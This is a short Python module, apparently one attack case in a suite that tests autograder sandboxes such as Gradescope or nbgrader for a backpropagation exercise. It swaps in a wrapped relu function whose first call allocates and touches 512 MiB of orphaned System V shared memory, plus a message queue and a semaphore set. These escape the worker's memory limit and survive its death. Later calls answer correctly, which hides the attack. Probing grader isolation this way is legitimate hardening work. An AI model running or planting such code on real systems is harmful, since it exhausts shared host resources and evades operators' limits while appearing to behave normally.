"""Pin host memory in System V shared memory that no process owns (created, filled, detached: RLIMIT_AS no longer
counts it, killing the worker frees nothing), plus a message queue and a semaphore set, while every answer stays
correct."""
MODULE = "ex3_mlp_backprop"
CLASS = "ipc"
MODES = ("grade", "batch", "gradescope", "nbgrader")
HOLD = 512 << 20
SHOWS = ":HELD:"
_ATK_IPC = {}


def _atk_ipc_hold():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmdt.argtypes = [ctypes.c_void_p]
    held, objects, errors = 0, 0, []
    size = 128 << 20
    for _ in range(4):  # 4 x 128 MiB, one at a time (a whole GiB attached at once would meet RLIMIT_AS)
        ident = libc.shmget(0, ctypes.c_size_t(size), 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if ident < 0:
            errors.append(f"shmget:{ctypes.get_errno()}")
            break
        address = libc.shmat(ident, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            errors.append(f"shmat:{ctypes.get_errno()}")
            break
        ctypes.memset(address, 1, size)  # every page touched: host memory from now on
        libc.shmdt(address)
        held += size
    for make, args in ((libc.msgget, (0, 0o1600)), (libc.semget, (0, 8, 0o1600))):
        if make(*args) >= 0:
            objects += 1
        else:
            errors.append(f"{make.__name__}:{ctypes.get_errno()}")
    return f"{_ATTACK['marker']}:HELD:{held}:OBJECTS:{objects}:{','.join(errors)}"


def _atk_relu(z, _orig=relu, _state=_ATK_IPC):
    if "done" not in _state:
        _state["done"] = _atk_ipc_hold()
        raise RuntimeError(_state["done"])  # (the evidence; every later call answers correctly)
    return _orig(z)


relu = _atk_relu
